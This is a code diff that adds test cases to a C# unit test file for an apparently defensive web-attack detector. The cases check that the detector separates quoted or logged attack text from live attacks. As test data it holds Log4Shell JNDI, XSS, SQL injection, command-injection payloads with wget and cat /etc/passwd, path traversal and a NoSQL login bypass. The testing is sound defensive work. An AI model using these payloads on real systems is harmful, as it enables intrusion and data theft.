@@ -5,7 +5,7 @@ using NetHawk.Core.Detectors.WebAttack;
 namespace NetHawk.Tests.Detectors;
 
 /// <summary>What only speaks of an attack, and the attack itself beside it.</summary>
-public class SpokenOfTests
+public class QuotedTextTests
 {
     private const string Log = "{\"create\": {}}\n{\"message\": \"203.0.113.9 - - \\\"GET /?x=${jndi:ldap://192.0.2.4/a} HTTP/1.1\\\" 404 196\"}";
 
@@ -18,6 +18,9 @@ public class SpokenOfTests
     [InlineData("text=A+page+shows+<script>alert(1)</script>+when+it+does+not+escape+what+people+write", "text=<script>alert(1)</script>")]
     [InlineData("{\"body\": \"diff --git a/login.php\\n+<script>alert(1)</script>\"}", "{\"body\": \"<script>alert(1)</script>\"}")]
     [InlineData("#!/bin/sh\nwget -q http://mirror.example/tool; chmod +x tool", "name=x;wget+http://192.0.2.1/bins.sh")]
+    [InlineData("{\"sql\": \"SELECT 1 OR 1=1\"}", "{\"a\": \"select \", \"b\": \"1' union select name from users --\"}")]
+    [InlineData("sql=SELECT+'a'+UNION+SELECT+'b'", "name=select+'+UNION+SELECT+name+FROM+users--")]
+    [InlineData("{\"message\": \"GET /?q=1' union select 2 HTTP/1.1\\\" 404\"}\n{\"message\": \"GET /?q=1' union select 2,", "name=1'+union+select+2,3--&note=+HTTP/1.1\"")]
     [InlineData(Log, "{\"message\": \"${jndi:ldap://192.0.2.4/a}\"}")]
     [InlineData("{\"title\": \"everything about the operators of this database\"}", "{\"title\": \"everything about the operators of this database\", \"password\": {\"$ne\": \"\"}}")]
     public void Statements_articles_patches_scripts_and_logs_are_no_injections(string honest, string attack)
@@ -34,6 +37,7 @@ public class SpokenOfTests
     [InlineData("/project/-/blob/main/etc/passwd.example", "/view?file=/etc/passwd")]
     [InlineData("/api?fields=name|id|price&page=1", "/ping?host=192.0.2.1|id&page=1")]
     [InlineData("/search?tags=dog%7Ccat", "/ping?host=x%3Bcat%20/etc/hosts")]
+    [InlineData("/adminer.php?sql=select+1+union+select+2", "/run?cmd=set+x;cat+/etc/passwd")]
     [InlineData("/list?all&id&ping", "/run?x=1%26%26id")]
     [InlineData("/monitors?size=27%22", "/item?id=27'")]
     [InlineData("/page?part=../../shared/menu.js", "/page?part=../../../var/log/x")]
@@ -49,8 +53,9 @@ public class SpokenOfTests
     {
         Assert.Null(WebExploits.InBody(Log));
         Assert.NotNull(WebExploits.InBody("x=${jndi:ldap://192.0.2.4/a}"));
-        Assert.False(LoginService.HasPassword("{\"message\": \"sshd: Failed password for invalid user admin, password: \\\"x\\\"\"}"));
+        Assert.False(LoginService.HasPassword("{\"message\": \"sshd: Failed password for invalid user admin from 203.0.113.9; GET /../../etc/passwd HTTP/1.1\"}"));
         Assert.True(LoginService.HasPassword("{\"user\": \"admin\", \"password\": \"x\"}"));
+        Assert.True(LoginService.HasPassword("user=admin&passwd=x&note= HTTP/1.1\""));
     }
 
     [Fact]
